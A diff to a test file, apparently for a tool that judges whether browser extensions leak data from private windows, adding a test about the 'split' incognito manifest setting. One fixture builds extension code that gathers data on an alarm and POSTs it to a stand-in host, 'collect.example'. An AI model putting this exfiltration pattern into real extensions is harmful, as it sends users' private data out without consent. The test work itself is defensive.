@@ -69,6 +69,12 @@ describe("private windows", () => {
       expect(await verdictOf(`${visit(body)}\nconst isHidden = (it) => it.incognito;`)).toBe(expected);
     });
 
+  test("a page for all windows is never in a private context, unless the manifest says so", async () => {
+    const asked = visit(`if (browser.extension.inIncognitoContext) return; ${store}`);
+    expect(await verdictOf(asked)).toBe("violated");
+    expect(await verdictOf(asked, { incognito: "split" })).toBe("holds");
+  });
+
   test("an extension that is not allowed there has nothing to leak", async () => {
     expect(await verdictOf(visit(store), { incognito: "not_allowed" })).toBe("holds");
   });
@@ -84,7 +90,7 @@ describe("ways for data", () => {
 
   const mailbox = (put: string, take: string): string => `${visit(put)}
     browser.alarms.onAlarm.addListener(async () => {
-      if (browser.extension.inIncognitoContext) return;
+      if ((await browser.windows.getLastFocused()).incognito) return;
       const found = ${take};
       await fetch("https://collect.example", { method: "POST", body: JSON.stringify(found) });
     });`;
